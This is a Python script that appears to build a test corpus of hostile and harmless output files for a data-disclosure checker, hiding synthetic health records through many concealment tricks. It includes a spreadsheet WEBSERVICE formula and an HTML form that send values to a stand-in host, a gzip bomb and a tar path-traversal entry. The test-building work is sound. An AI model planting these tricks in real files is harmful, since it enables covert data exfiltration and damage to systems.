"""The rest of the corpus: python more.py OUTDIR, after make.py (whose helpers it uses).

Needs what make.py needs, and bokeh, altair, lightgbm, xgboost, nbclient, ipykernel, git and LibreOffice.
KNOWN are the values that TestCorpus gives as known: pseudonyms and record keys of an extract.
"""
import re, subprocess, sys, tempfile
src = open(__file__.replace("more.py", "make.py")).read()
exec(src[:src.index("N = 5\n")].replace('py.tsv"', 'more.tsv"'))
from reportlab.lib import colors
from reportlab.lib.utils import ImageReader
from reportlab.platypus import SimpleDocTemplate, Table, TableStyle, Paragraph
from reportlab.lib.styles import getSampleStyleSheet
import lightgbm, xgboost

KNOWN = ["QX7-22K-19AB", "K5T0-9VDE-WW3M", "ROWKEY-00041-77", "HJ4M8P2R6T1X"]
secret = lambda i: "72,M,I21 65,F,E11"
todo = []                                   # (source, target, label, technique) for LibreOffice
for i in range(5):
    S = summary(i)
    ok = S.to_csv(index=False)
    def out_bytes(f):
        b = io.BytesIO(); f(b); return b.getvalue()
    excel = lambda d: out_bytes(lambda b: d.to_excel(b, index=False))
    # --- tables, by value ---
    put("hostile", f"trows{i}.tsv", "tsv-rows", "pandas", rows(40 + i).to_csv(index=False, sep="\t"))
    put("hostile", f"tnhs{i}.tsv", "tsv-nhs-number", "pandas", S.assign(ref=[nhs() for _ in range(4)]).to_csv(index=False, sep="\t"))
    put("hostile", f"xnhs{i}.xlsx", "xlsx-nhs-number", "pandas", excel(S.assign(ref=[nhs() for _ in range(4)])))
    put("hostile", f"xpost{i}.xlsx", "xlsx-postcode", "pandas", excel(pd.DataFrame({"area": POST, "n": [100, 200, 300, 400, 500]})))
    put("hostile", f"xnames{i}.xlsx", "xlsx-names", "pandas", excel(pd.DataFrame({"label": [named(k + i) for k in range(8)], "n": range(100, 180, 10)})))
    put("hostile", f"xdob{i}.xlsx", "xlsx-birth-dates", "pandas", excel(pd.DataFrame({"date of birth": [f"{R.randrange(1930, 2000)}-0{R.randrange(1, 9)}-1{R.randrange(9)}" for _ in range(12)], "n": range(100, 220, 10)})))
    put("hostile", f"pnhs{i}.parquet", "parquet-nhs-number", "pyarrow", out_bytes(lambda b: S.assign(ref=[nhs() for _ in range(4)]).to_parquet(b)))
    put("hostile", f"jnhs{i}.json", "json-nhs-number", "pandas", S.assign(ref=[nhs() for _ in range(4)]).to_json(orient="records"))
    k = KNOWN[i % 4]
    put("hostile", f"known{i}.csv", "csv-pseudonym", "pandas", S.assign(note=["", k, "", ""]).to_csv(index=False))
    put("hostile", f"knownb{i}.csv", "csv-pseudonym-backwards", "pandas", S.assign(note=["", re.sub("[^A-Za-z0-9]", "", k)[::-1], "", ""]).to_csv(index=False))
    put("hostile", f"knowns{i}.csv", "csv-pseudonym-other-separators", "pandas", S.assign(note=["", re.sub("-", "_", k).lower(), "", ""]).to_csv(index=False))
    put("hostile", f"known{i}.xlsx", "xlsx-pseudonym", "pandas", excel(S.assign(note=["", k, "", ""])))
    put("hostile", f"known{i}.json", "json-pseudonym", "python", json.dumps({"n": 1200, "note": f"outlier {k}"}))
    put("hostile", f"known{i}.parquet", "parquet-pseudonym", "pyarrow", out_bytes(lambda b: S.assign(note=["", k, "", ""]).to_parquet(b)))
    put("hostile", f"known{i}.py", "code-literals-of-the-extract", "by hand", f"import pandas as pd\ndf = pd.read_csv('extract.csv')\ndf = df[df.person != '{k}']\n")
    put("hostile", f"known{i}.Rmd", "rmd-known-value", "by hand", f"---\ntitle: Results\n---\n\n```{{r}}\nd <- subset(d, person != '{k}')\n```\n")
    put("hostile", f"rand{i}.csv", "csv-random-label", "pandas", pd.DataFrame({"label": ["".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789+/") for _ in range(40)) for _ in range(4)], "n": [100, 200, 300, 400]}).to_csv(index=False))
    d = pd.DataFrame({"area": [f"District {a:02d}" for a in range(40)], "n": [105 + 5 * a for a in range(40)]}).sample(frac=1, random_state=i)
    put("hostile", f"order{i}.csv", "csv-row-order", "pandas", d.to_csv(index=False))
    put("hostile", f"order{i}.xlsx", "xlsx-row-order", "pandas", excel(d))
    low = pd.DataFrame({"group": list("abcdefgh"), "mean": [f"{R.randrange(10, 90)}.{R.randrange(10**12):012d}" for _ in range(8)]})
    put("hostile", f"low{i}.csv", "csv-low-digits", "pandas", low.to_csv(index=False))
    put("hostile", f"low{i}.xlsx", "xlsx-low-digits", "pandas", excel(low.assign(mean=low["mean"].astype(float) + 1e-9 * i)))
    put("hostile", f"low{i}.json", "json-low-digits", "pandas", low.assign(mean=low["mean"].astype(float)).to_json(orient="records", double_precision=15))
    put("hostile", f"zero{i}.xlsx", "xlsx-zero-width", "pandas", excel(S.rename(columns={"n": "n" + chr(0x200b)}).assign(Region=["nor" + chr(0x200c) * (i + 1) + "th"] * 4)))
    put("hostile", f"homo{i}.json", "json-homoglyph", "python", json.dumps([{"area": "N" + chr(0x43e) + "rth", "n": 100}, {"area": "S" + chr(0x43e) + "uth", "n": 205 + i}], ensure_ascii=False))
    # --- spreadsheets of LibreOffice ---
    tmp = f"{out}/src"; os.makedirs(tmp, exist_ok=True)
    def source(name, data, target, technique, label="hostile"):
        open(f"{tmp}/{name}", "wb").write(data); todo.append((f"{tmp}/{name}", target, label, technique))
    source(f"olrows{i}.xlsx", excel(rows(30 + i)), "ods", "ods-rows")
    source(f"olnhs{i}.xlsx", excel(S.assign(ref=[nhs() for _ in range(4)])), "ods", "ods-nhs-number")
    source(f"olknown{i}.xlsx", excel(S.assign(note=["", k, "", ""])), "ods", "ods-pseudonym")
    wb, ws = book(i); ws.column_dimensions["C"].hidden = True; source(f"olcol{i}.xlsx", save(wb), "ods", "ods-hidden-column")
    wb, ws = book(i); ws["F2"] = '=WEBSERVICE("http://x/"&B2)'; source(f"olweb{i}.xlsx", save(wb), "ods", "ods-formula-outside")
    wb, ws = book(i); ws["G2"] = "72 M I21"; ws["G2"].font = openpyxl.styles.Font(color="FFFFFFFF"); source(f"olwhite{i}.xlsx", save(wb), "ods", "ods-white-text")
    wb, ws = book(i)
    for c in ws[1]: c.fill, c.font = openpyxl.styles.PatternFill("solid", fgColor="FF1F4E78"), openpyxl.styles.Font(color="FFFFFFFF", bold=True)
    source(f"olhead{i}.xlsx", save(wb), "pdf", "pdf-table-dark-head", "harmless"); source(f"olheads{i}.xlsx", save(wb), "ods", "ods-styled", "harmless")
    # --- vector pictures ---
    def page(draw):
        b = io.BytesIO(); c = canvas.Canvas(b); c.drawString(72, 760, "Results: mean 12.3, n = 1,200"); draw(c); c.save(); return b.getvalue()
    def text_at(c, x, y, t=None): c.drawString(x, y, t or secret(i))
    def white(c): c.setFillColorRGB(1, 1, 1); text_at(c, 72, 600)
    def nearly(c): c.setFillColorRGB(.99, .98, .99); text_at(c, 72, 600)
    def cmyk(c): c.setFillColorCMYK(0, 0, 0, 0); text_at(c, 72, 600)
    def onfill(c): c.setFillColorRGB(.1, .2, .5); c.rect(60, 580, 300, 60, fill=1, stroke=0); text_at(c, 72, 600)
    def tiny(c): c.setFont("Helvetica", .4); text_at(c, 72, 600)
    def scaled(c): c.saveState(); c.scale(.02, .02); text_at(c, 3600, 30000); c.restoreState()
    def off(c): text_at(c, -900, 600)
    def above(c): text_at(c, 72, 5000)
    def covered(c): text_at(c, 72, 600); c.setFillColorRGB(1, 1, 1); c.rect(60, 580, 300, 60, fill=1, stroke=0)
    def image(c): text_at(c, 72, 600); c.drawImage(ImageReader(Image.new("RGB", (40, 20), (200, 220, 240))), 60, 580, 300, 60)
    def alpha(c): c.setFillAlpha(0); text_at(c, 72, 600)
    def clip(c): p = c.beginPath(); p.rect(400, 100, 50, 50); c.clipPath(p, stroke=0); text_at(c, 72, 600)
    def mode7(c): t = c.beginText(72, 600); t.setTextRenderMode(7); t.textLine(secret(i)); c.drawText(t)
    def form(c): c.beginForm("f"); c.setFillColorRGB(1, 1, 1); text_at(c, 72, 600); c.endForm(); c.doForm("f")
    for name, draw in {"white-text": white, "nearly-white-text": nearly, "white-text-cmyk": cmyk, "text-on-its-colour": onfill, "tiny-text": tiny, "scaled-down-text": scaled, "text-off-page": off, "text-above-page": above,
                       "covered-text": covered, "text-under-image": image, "transparent-text": alpha, "clipped-text": clip, "clipping-text": mode7, "hidden-in-form": form}.items():
        put("hostile", f"{name}{i}.pdf", f"pdf-{name}", "reportlab", page(draw))
    def meta(c): c.setSubject(",".join(map(str, rng.integers(18, 95, 90))))
    put("hostile", f"meta{i}.pdf", "pdf-metadata", "reportlab", page(meta))
    q = pikepdf.open(io.BytesIO(page(lambda c: None))); ocg = q.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name=pikepdf.String("L")))
    q.Root.OCProperties = pikepdf.Dictionary(OCGs=pikepdf.Array([ocg]), D=pikepdf.Dictionary(OFF=pikepdf.Array([ocg]))); q.pages[0].Resources.Properties = pikepdf.Dictionary(L=ocg)
    q.pages[0].contents_add(pikepdf.Stream(q, b"/OC /L BDC BT /F1 10 Tf 72 500 Td (72 M I21) Tj ET EMC")); put("hostile", f"layer{i}.pdf", "pdf-hidden-layer", "pikepdf", out_bytes(q.save))
    def table(c):
        pass
    b = io.BytesIO(); doc = SimpleDocTemplate(b); t = Table([list(S.columns)] + S.values.tolist()); t.setStyle(TableStyle([("BACKGROUND", (0, 0), (-1, 0), colors.darkblue), ("TEXTCOLOR", (0, 0), (-1, 0), colors.white), ("GRID", (0, 0), (-1, -1), .5, colors.grey)]))
    doc.build([Paragraph("Mean cost by age band", getSampleStyleSheet()["Title"]), t]); put("harmless", f"rltable{i}.pdf", "pdf-table-dark-head", "reportlab", b.getvalue())
    # pies and bars with white words on dark areas
    plt.rcParams["svg.fonttype"] = ["path", "none"][i % 2]
    fig, ax = plt.subplots(1, 2, figsize=(6, 3)); _, _, inner = ax[0].pie([30, 45, 25 + i], labels=["North", "South", "East"], autopct="%1.0f%%", colors=["#1f4e78", "#7b241c", "#145a32"], textprops={"color": "black"})
    for tx in inner: tx.set_color("white")
    bars = ax[1].bar(["a", "b"], [120, 240 + i], color="#222255"); ax[1].bar_label(bars, label_type="center", color="white"); ax[1].set_title("People")
    for e in ("svg", "pdf"): put("harmless", f"pie{i}.{e}", f"{e}-white-on-dark", "matplotlib", out_bytes(lambda b: fig.savefig(b, format=e)))
    plt.close(fig)
    def inside(body, style=""): return f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300" viewBox="0 0 400 300">{style}<rect x="20" y="100" width="40" height="150" fill="#336"/><text x="20" y="280" font-size="12">People</text>{body}</svg>'
    png = out_bytes(lambda b: Image.new("RGB", (40, 20), (200, 220, 240)).save(b, "png")); uri = "data:image/png;base64," + base64.b64encode(png).decode()
    svgs = {"white-text": f'<text x="100" y="60" font-size="12" fill="white">{secret(i)}</text>', "text-on-its-colour": f'<rect x="90" y="40" width="300" height="40" fill="#224466"/><text x="100" y="60" font-size="12" fill="#224466">{secret(i)}</text>',
            "text-under-image": f'<text x="100" y="60" font-size="12">{secret(i)}</text><image x="90" y="40" width="300" height="40" xlink:href="{uri}"/>', "covered-text": f'<text x="100" y="60" font-size="12">{secret(i)}</text><rect x="90" y="40" width="300" height="40" fill="#fff"/>',
            "transparent-text": f'<g opacity="0.5"><g style="opacity:0.1"><text x="100" y="60" font-size="12">{secret(i)}</text></g></g>', "tiny-text": f'<g transform="scale(.01)"><text x="10000" y="6000" font-size="12">{secret(i)}</text></g>',
            "text-off-edge": f'<g transform="translate(900,0)"><text x="100" y="60" font-size="12">{secret(i)}</text></g>', "text-in-defs": f'<defs><text x="100" y="60">{secret(i)}</text></defs>',
            "inherited-fill": f'<g fill="#ffffff"><g><text x="100" y="60" font-size="12"><tspan>{secret(i)}</tspan></text></g></g>', "hidden-group": f'<g visibility="hidden"><text x="100" y="60">{secret(i)}</text></g>'}
    for name, body in svgs.items(): put("hostile", f"{name}{i}.svg", f"svg-{name}", "by hand", inside(body))
    for name, css in {"class-hides": ".q{display:none}", "class-white": "text.q{fill:#fefefe}", "class-tiny": ".q{font-size:0.2px}", "class-clear": ".q{opacity:0}"}.items():
        put("hostile", f"{name}{i}.svg", f"svg-{name}", "by hand", inside(f'<text class="q" x="100" y="60" font-size="12">{secret(i)}</text>', f"<style>{css}</style>"))
    put("hostile", f"meta{i}.svg", "svg-metadata", "by hand", inside("<metadata>" + rows(20).to_csv() + "</metadata>"))
    put("hostile", f"tail{i}.svg", "svg-after-end", "by hand", inside("") + "<!--" + rows(20).to_csv() + "-->")
    put("harmless", f"plain{i}.svg", "svg-labels", "by hand", inside('<rect x="100" y="80" width="60" height="170" fill="darkslateblue"/><text x="130" y="160" text-anchor="middle" font-size="11" fill="white">240</text><g fill="white"><circle cx="250" cy="160" r="40" fill="#933"/><text x="250" y="164" text-anchor="middle" font-size="11">31%</text></g>'))
    # --- pictures ---
    fig, ax = plt.subplots(figsize=(3, 2)); ax.bar(list("abc"), [100, 200 + i, 300]); barpng = out_bytes(lambda b: fig.savefig(b, format="png")); plt.close(fig)
    a = np.array(Image.open(io.BytesIO(barpng)).convert("RGBA")); hid = a.copy(); hid[..., 3][:20] = 0; hid[:20, :, :3] = rng.integers(0, 255, hid[:20, :, :3].shape); put("hostile", f"alpha{i}.png", "png-colours-under-transparency", "Pillow", out_bytes(lambda b: Image.fromarray(hid).save(b, "png")))
    frames = [Image.fromarray(a[..., :3]), Image.fromarray(rng.integers(0, 255, a[..., :3].shape, dtype=np.uint8))]; put("hostile", f"apng{i}.png", "png-frames", "Pillow", out_bytes(lambda b: frames[0].save(b, "png", save_all=True, append_images=frames[1:])))
    ex = Image.Exif(); ex[0x010e] = rows(20).to_csv(); put("hostile", f"exif{i}.png", "png-exif", "Pillow", out_bytes(lambda b: frames[0].save(b, "png", exif=ex)))
    put("hostile", f"poly{i}.jpg", "jpeg-zip-polyglot", "Pillow, by hand", out_bytes(lambda b: frames[0].save(b, "jpeg")) + rezip(save(book(i)[0])))
    put("hostile", f"icc{i}.jpg", "jpeg-private-segment", "Pillow", out_bytes(lambda b: frames[0].save(b, "jpeg", icc_profile=rows(40).to_csv().encode())))
    # --- pages with data behind plots ---
    from bokeh.plotting import figure as bf; from bokeh.embed import file_html; from bokeh.resources import CDN
    p = bf(width=300, height=200); p.scatter(rng.normal(size=200), rng.normal(size=200)); put("hostile", f"bokeh{i}.html", "html-bokeh-points", "bokeh", file_html(p, CDN, "t"))
    import altair; altair.data_transformers.disable_max_rows()
    put("hostile", f"altair{i}.html", "html-vega-points", "altair", altair.Chart(rows(150)).mark_point().encode(x="age", y="sbp").to_html())
    put("hostile", f"form{i}.html", "html-form", "by hand", "<html><body><form action='http://x'><input type=hidden name=a value='" + secret(i) + "'></form></body></html>")
    put("hostile", f"white{i}.html", "html-white-text", "by hand", f"<html><body><h1>Results</h1><p style='color:#fff;'>{secret(i)}</p></body></html>")
    put("hostile", f"tiny{i}.html", "html-tiny-text", "by hand", f"<html><body><h1>Results</h1><p style='font-size:0'>{secret(i)}</p></body></html>")
    put("hostile", f"widget{i}.html", "html-widget-state", "by hand", '<html><body><h1>Results</h1><script type="application/vnd.jupyter.widget-state+json">' + json.dumps({"state": {"a": {"value": rows(30).to_csv()}}}) + "</script></body></html>")
    put("hostile", f"hw{i}.html", "html-htmlwidget-data", "by hand", '<html><body><div id="h" class="datatables html-widget"></div><script type="application/json" data-for="h">' + json.dumps({"x": {"data": [list(map(str, c)) for c in rows(40).T.values.tolist()]}}) + "</script></body></html>")
    # --- documents ---
    d = docx.Document(); d.add_paragraph("Results"); r = d.add_paragraph().add_run(secret(i)); r.font.color.rgb = docx.shared.RGBColor(255, 255, 255); put("hostile", f"wdoc{i}.docx", "docx-white-text", "python-docx", out_bytes(d.save))
    d = docx.Document(); d.add_paragraph("Results"); r = d.add_paragraph().add_run(secret(i)); r.font.size = docx.shared.Pt(1); put("hostile", f"tdoc{i}.docx", "docx-tiny-text", "python-docx", out_bytes(d.save))
    d = docx.Document(); d.add_paragraph("Results"); d.core_properties.comments = ",".join(map(str, rng.integers(18, 95, 80))); put("hostile", f"pdoc{i}.docx", "docx-properties", "python-docx", out_bytes(d.save))
    d = docx.Document(); d.add_paragraph("Results"); d.add_comment(d.paragraphs[0].runs, "Mary Smith, 72", author="a") if hasattr(d, "add_comment") else None; put("hostile", f"cdoc{i}.docx", "docx-comments", "python-docx", out_bytes(d.save))
    q = pptx.Presentation(); sl = q.slides.add_slide(q.slide_layouts[5]); sl.shapes.title.text = "Results"; sl._element.set("show", "0"); put("hostile", f"hslide{i}.pptx", "pptx-hidden-slide", "python-pptx", out_bytes(q.save))
    # --- notebooks, R Markdown, logs, history ---
    Rmd = "---\ntitle: Results\noutput: html_document\n---\n\n```{r}\nlibrary(survival)\nfit <- coxph(Surv(time, died) ~ age, data = d)\nsummary(fit)\n```\n"
    put("harmless", f"plain{i}.Rmd", "rmd", "by hand", Rmd)
    put("hostile", f"rows{i}.Rmd", "rmd-rows-in-a-string", "by hand", Rmd + "```{r}\nd <- read.csv(text = '\n" + rows(60).to_csv(index=False) + "')\n```\n")
    put("hostile", f"printed{i}.Rmd", "rmd-printed-rows", "by hand", Rmd + "\n".join("## " + l for l in rows(40).to_string().split("\n")) + "\n")
    put("hostile", f"tbr{i}.log", "log-r-error-with-values", "by hand", f"Error in solve.default(x) : \n  value not found: '{nhs()}'\nCalls: merge -> solve\n")
    put("hostile", f"lit{i}.R", "code-literals-r", "by hand", "d <- data.frame(age = c(" + ", ".join(map(str, rng.integers(18, 95, 200))) + "), sbp = c(" + ", ".join(map(str, rng.integers(100, 180, 200))) + "))\n")
    put("hostile", f"ins{i}.sql", "code-insert-statements", "by hand", "".join(f"INSERT INTO p VALUES ({a}, '{s}', '{dd}', {int(b)});\n" for a, s, dd, b in rows(80).itertuples(index=False)))
    with tempfile.TemporaryDirectory() as g:
        open(f"{g}/r.csv", "w").write(rows(20).to_csv()); run = lambda *c: subprocess.run(["git", "-C", g, "-c", "user.name=a", "-c", "user.email=a@localhost", *c], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        run("init", "-q"); run("add", "."); run("commit", "-qm", "rows"); run("bundle", "create", f"{g}/h.bundle", "HEAD"); put("hostile", f"history{i}.bundle", "git-bundle", "git", open(f"{g}/h.bundle", "rb").read())
        b = io.BytesIO(); z = zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED); z.writestr("table.csv", ok)
        for folder, _, names in os.walk(f"{g}/.git/objects"):
            for n in names: z.write(f"{folder}/{n}", os.path.relpath(f"{folder}/{n}", g))
        z.close(); put("hostile", f"gitobjects{i}.zip", "zip-git-objects", "git, zipfile", b.getvalue())
    # --- models ---
    X, y = rng.normal(size=(150, 4)), rng.integers(0, 2, 150)
    lgb = lightgbm.train({"objective": "binary", "min_data_in_leaf": 1, "num_leaves": 40, "verbose": -1, "seed": i, "num_threads": 1}, lightgbm.Dataset(X, y), 3)
    put("hostile", f"lgb{i}.json", "json-tree-small-leaf", "lightgbm", json.dumps(lgb.dump_model()))
    fair = lightgbm.train({"objective": "regression", "min_data_in_leaf": 30, "num_leaves": 4, "verbose": -1, "num_threads": 1}, lightgbm.Dataset(X, X[:, 0] + y), 3)
    put("harmless", f"lgbfair{i}.json", "json-tree", "lightgbm", json.dumps(fair.dump_model()))
    xg = xgboost.train({"max_depth": 6, "min_child_weight": 0, "seed": i, "nthread": 1}, xgboost.DMatrix(X, y), 3)
    put("hostile", f"xgb{i}.ubj", "xgboost-binary", "xgboost", bytes(xg.save_raw("ubj")))
    put("hostile", f"xgb{i}.json", "json-booster-small-leaf", "xgboost", bytes(xg.save_raw("json")))
    put("hostile", f"lgb{i}.txt", "lightgbm-text-model", "lightgbm", lgb.model_to_string())
    pure = tree.DecisionTreeClassifier(max_depth=1, min_samples_leaf=40, random_state=i).fit(np.sort(X, 0), (np.arange(150) > 75).astype(int))
    put("hostile", f"pure{i}.pkl", "pickle-pure-class", "scikit-learn", pickle.dumps(pure)); put("hostile", f"pure{i}.joblib", "joblib-pure-class", "scikit-learn", out_bytes(lambda b: joblib.dump(pure, b)))
    put("hostile", f"mlp{i}.pkl", "pickle-too-many-parameters", "scikit-learn", pickle.dumps(linear_model.LinearRegression().fit(rng.normal(size=(30, 400)), rng.normal(size=(30, 12)))))
    put("hostile", f"leaf{i}.pmml", "pmml-small-leaf", "by hand", '<?xml version="1.0"?><PMML version="4.4"><TreeModel functionName="classification"><Node recordCount="150"><True/>' + "".join(f'<Node score="{k % 2}" recordCount="{k + 1}"><SimplePredicate field="a" operator="lessThan" value="{k}"/><ScoreDistribution value="1" recordCount="{k + 1}"/><ScoreDistribution value="0" recordCount="0"/></Node>' for k in range(4)) + "</Node></TreeModel></PMML>")
    put("hostile", f"old{i}.dta", "dta-old-format", "pandas", out_bytes(lambda b: rows(60).to_stata(b, version=114)))
    put("hostile", f"arr{i}.npy", "type-numpy-array", "numpy", out_bytes(lambda b: np.save(b, X)))
    put("hostile", f"feather{i}.feather", "type-feather", "pyarrow", out_bytes(lambda b: rows(40).to_feather(b)))
    # --- archives ---
    def z(members, comp=zipfile.ZIP_DEFLATED):
        b = io.BytesIO(); q = zipfile.ZipFile(b, "w", comp); [q.writestr(n, d) for n, d in members]; q.close(); return b.getvalue()
    with tempfile.TemporaryDirectory() as g:
        open(f"{g}/a.csv", "w").write(ok); cmd = ["zip", "-q", "-P", "secret", f"{g}/e.zip", "a.csv"]
        try: subprocess.run(cmd, cwd=g, check=True); put("hostile", f"enc{i}.zip", "zip-encrypted", "zip", open(f"{g}/e.zip", "rb").read())
        except FileNotFoundError: e = bytearray(z([("a.csv", ok)])); e[6] |= 1; e[e.rindex(b"PK\1\2") + 8] |= 1; put("hostile", f"enc{i}.zip", "zip-encrypted", "zipfile, by hand", bytes(e))
    deep = ok.encode(); name = "a.csv"
    for lv in range(7): deep, name = z([(name, deep)]), f"l{lv}.zip"
    put("hostile", f"deep{i}.zip", "zip-nested-deep", "zipfile", deep)
    put("hostile", f"many{i}.zip", "zip-many-members", "zipfile", z([(f"t{k}.csv", "a,n\nx,1\n") for k in range(2300)]))
    put("hostile", f"member{i}.zip", "zip-member-name", "zipfile", z([(f"{nhs()}.csv", ok)]))
    put("hostile", f"memberenc{i}.zip", "zip-member-name-encoded", "zipfile", z([(base64.urlsafe_b64encode(f"72,M,I21,2023-01-{i + 10},LS6 3AB".encode()).decode().rstrip("=") + ".csv", ok)]))
    put("hostile", f"memberknown{i}.zip", "zip-member-name-known", "zipfile", z([(f"plot {k}.csv", ok)]))
    put("hostile", f"{k.lower()}-{i}.csv", "name-known-value", "by hand", ok)
    put("hostile", f"notes for Mary Smith {i}.txt", "name-of-a-person", "by hand", "Results are in the table.\n")
    put("hostile", f"bomb{i}.gz", "gzip-bomb", "gzip", gzip.compress(b"0" * (40 << 20), mtime=0))
    put("hostile", f"gztail{i}.csv.gz", "gzip-data-after", "gzip, by hand", gzip.compress(ok.encode(), mtime=0) + rows(10).to_csv().encode())
    b = io.BytesIO(); g = gzip.GzipFile(rows(5).to_csv(index=False, lineterminator=";")[:200], "wb", fileobj=b, mtime=0); g.write(ok.encode()); g.close(); put("hostile", f"gzname{i}.csv.gz", "gzip-header-name", "gzip", b.getvalue())
    def tar(f): b = io.BytesIO(); q = tarfile.open(fileobj=b, mode="w"); f(q); q.close(); return b.getvalue()
    def member(n, d): ti = tarfile.TarInfo(n); ti.size = len(d); return ti, io.BytesIO(d)
    put("hostile", f"slip{i}.tar", "tar-traversal", "tarfile", tar(lambda q: q.addfile(*member("../../a.csv", ok.encode()))))
    put("hostile", f"dev{i}.tar", "tar-device", "tarfile", tar(lambda q: (lambda ti: (setattr(ti, "type", tarfile.CHRTYPE), q.addfile(ti)))(tarfile.TarInfo("d.csv"))))
    put("hostile", f"rows{i}.tar", "tar-rows-inside", "tarfile", tar(lambda q: q.addfile(*member("r.csv", rows(40).to_csv(index=False).encode()))))
    put("hostile", f"tail{i}.tar", "tar-data-after", "tarfile, by hand", tar(lambda q: q.addfile(*member("a.csv", ok.encode()))) + rows(10).to_csv().encode())
log.close()

# Jupyter runs notebooks
from nbclient import NotebookClient
with open(f"{out}/more.tsv", "a") as l:
    for i in range(5):
        n = nbf.v4.new_notebook(); n.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
        n.cells = [nbf.v4.new_markdown_cell("# Analysis"), nbf.v4.new_code_cell(f"import numpy as np, pandas as pd\nd = pd.DataFrame(np.random.default_rng({i}).integers(18, 95, (40, 4)), columns=list('abcd'))\nd"), nbf.v4.new_code_cell("print(d.to_string())")]
        NotebookClient(n, timeout=120).execute()
        open(f"{out}/hostile/ran{i}.ipynb", "w").write(nbf.writes(n)); l.write(f"hostile\tran{i}.ipynb\tipynb-run-outputs\tJupyter\n")
        for c in n.cells:
            if c.cell_type == "code": c.outputs, c.execution_count, c.metadata = [], None, {}
        open(f"{out}/harmless/cleared{i}.ipynb", "w").write(nbf.writes(n)); l.write(f"harmless\tcleared{i}.ipynb\tipynb-cleared\tJupyter\n")

# LibreOffice converts
tmp = f"{out}/lo"; os.makedirs(tmp, exist_ok=True)
with open(f"{out}/more.tsv", "a") as l:
    for to in sorted({t[1] for t in todo}):
        these = [t for t in todo if t[1] == to]
        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{os.path.abspath(tmp)}/profile", "--convert-to", to, "--outdir", tmp, *[t[0] for t in these]], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for s, _, label, technique in these:
            n = os.path.splitext(os.path.basename(s))[0] + "." + to
            os.replace(f"{tmp}/{n}", f"{out}/{label}/lo-{n}"); l.write(f"{label}\tlo-{n}\t{technique}\tLibreOffice\n")
